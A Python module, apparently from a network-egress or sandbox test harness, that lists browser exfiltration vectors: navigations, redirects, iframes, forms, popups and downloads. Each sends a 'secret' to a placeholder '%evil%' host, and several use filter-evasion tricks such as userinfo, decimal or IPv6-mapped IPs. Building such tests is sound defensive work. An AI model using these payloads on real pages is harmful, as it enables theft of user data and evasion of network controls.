"""Vectors that move a tab, a frame or a file: navigations, redirects, frames, forms, popups, downloads."""

from __future__ import annotations

from .vector import Answer, Vector, redirect

REFRESH = '<meta http-equiv="refresh" content="0;url=%evil%/?s=secret">'

ORDERS = (
    Vector("goto_agent", way="agent", url="%evil%/?s=secret"),
    Vector("goto_userinfo", way="agent", url="http://good.test@%host%/?s=secret"),
    Vector("goto_ip_literal", way="agent", url="http://%ip%/?s=secret"),
    Vector("location_href", script="location.href = '%evil%/?s=secret'"),
    Vector("link_click", page='<a id="x" href="%evil%/?s=secret">go</a>', way="click"),
    Vector("meta_refresh", page=REFRESH),
)

REDIRECTS = (
    Vector("redirect_nav", way="agent", url="%good%/redirect_nav/r", files={"r": redirect("%evil%/?s=secret")}),
    Vector("redirect_img", page='<img src="redirect_img/r">', files={"r": redirect("%evil%/?s=secret")}),
    Vector(
        "redirect_fetch",
        script="fetch('redirect_fetch/r', {mode: 'no-cors'})",
        files={"r": redirect("%evil%/?s=secret")},
    ),
    Vector(
        "redirect_307_post",
        script="fetch('redirect_307_post/r', {method: 'POST', mode: 'no-cors', body: 'secret'})",
        files={"r": redirect("%evil%/", 307)},
    ),
)

FRAMES = (
    Vector("iframe", page='<iframe src="%evil%/?s=secret"></iframe>'),
    Vector("iframe_srcdoc_img", page="<iframe srcdoc=\"<img src='%evil%/?s=secret'>\"></iframe>"),
    Vector(
        "iframe_data_fetch",
        page="<iframe src=\"data:text/html,<script>fetch('%evil%/?s=secret',{mode:'no-cors'})</script>\"></iframe>",
    ),
    Vector(
        "iframe_blob_img",
        script="""
            const frame = document.createElement('iframe');
            frame.src = URL.createObjectURL(new Blob(["<img src='%evil%/?s=secret'>"], {type: 'text/html'}));
            document.body.append(frame);
        """,
    ),
    Vector("object_embed", page='<object data="%evil%/o" type="text/html"></object><embed src="%evil%/e">'),
    Vector(
        "xslt_or_svg_iframe",
        page='<iframe src="xslt_or_svg_iframe/doc.xml"></iframe>',
        files={
            "doc.xml": Answer('<?xml-stylesheet type="text/xsl" href="%evil%/sheet.xsl"?><doc/>', "text/xml"),
        },
        fires="",
    ),
)

FORMS = (
    Vector(
        "form_get",
        page='<form id="f" action="%evil%/"><input name="s" value="secret"></form>',
        script="document.getElementById('f').submit()",
    ),
    Vector(
        "form_post",
        page='<form id="f" method="post" action="%evil%/"><input name="s" value="secret"></form>',
        script="document.getElementById('f').submit()",
    ),
    Vector(
        "form_blank",
        page='<form method="post" target="_blank" action="%evil%/"><input name="s" value="secret">'
        '<button id="x">send</button></form>',
        way="click",
    ),
)

POPUPS = (
    Vector("window_open", script="window.open('%evil%/?s=secret')"),
    Vector("window_open_noopener", script="window.open('%evil%/?s=secret', '_blank', 'noopener')"),
    Vector(
        "popup_about_blank_write",
        script="window.open('about:blank').document.write(\"<img src='%evil%/?s=secret'>\")",
    ),
    Vector("target_blank_click", page='<a id="x" target="_blank" href="%evil%/?s=secret">go</a>', way="click"),
)

DOWNLOADS = (
    Vector("download_attr", page='<a id="x" download href="%evil%/?s=secret">get</a>', way="click"),
    Vector("download_nav", script="location.href = '%evil%/file.bin?s=secret'"),
)

EXTRAS = (
    Vector("goto_other_port", way="agent", url="http://good.test:8076/?s=secret", other=(8076,), extra=True),
    Vector(
        "goto_https_same_host", way="agent", url="https://good.test/?s=secret", other=(443,), fires="tcp", extra=True
    ),
    Vector("goto_trailing_dot", way="agent", url="http://%name%./?s=secret", extra=True),
    Vector("goto_decimal_ip", way="agent", url="http://%decimal%/?s=secret", extra=True),
    Vector("goto_mapped_ip", way="agent", url="http://[::ffff:%ip%]/?s=secret", extra=True),
    Vector("refresh_header", headers=(("Refresh", "0;url=%evil%/?s=secret"),), extra=True),
    Vector(
        "redirect_20_hops",
        page='<img src="redirect_20_hops/1">',
        files={
            **{str(hop): redirect(f"%good%/redirect_20_hops/{hop + 1}") for hop in range(1, 19)},
            "19": redirect("%evil%/?s=secret"),
        },
        extra=True,
    ),
    Vector(
        "redirect_307_form",
        page='<form id="f" method="post" action="redirect_307_form/r"><input name="s" value="secret"></form>',
        script="document.getElementById('f').submit()",
        files={"r": redirect("%evil%/", 307)},
        extra=True,
    ),
    Vector(
        "redirect_download",
        page='<a id="x" download href="redirect_download/r">get</a>',
        files={"r": redirect("%evil%/file.bin?s=secret")},
        way="click",
        extra=True,
    ),
    Vector(
        "redirect_frame", page='<iframe src="redirect_frame/r"></iframe>', files={"r": redirect("%evil%/")}, extra=True
    ),
    Vector("popup_storm", script="for (let n = 0; n < 12; n++) window.open('%evil%/?n=' + n)", extra=True),
    Vector("javascript_frame", page="<iframe src=\"javascript:'<img src=%evil%/?s=secret>'\"></iframe>", extra=True),
)

MOVES = (*ORDERS, *REDIRECTS, *FRAMES, *FORMS, *POPUPS, *DOWNLOADS, *EXTRAS)
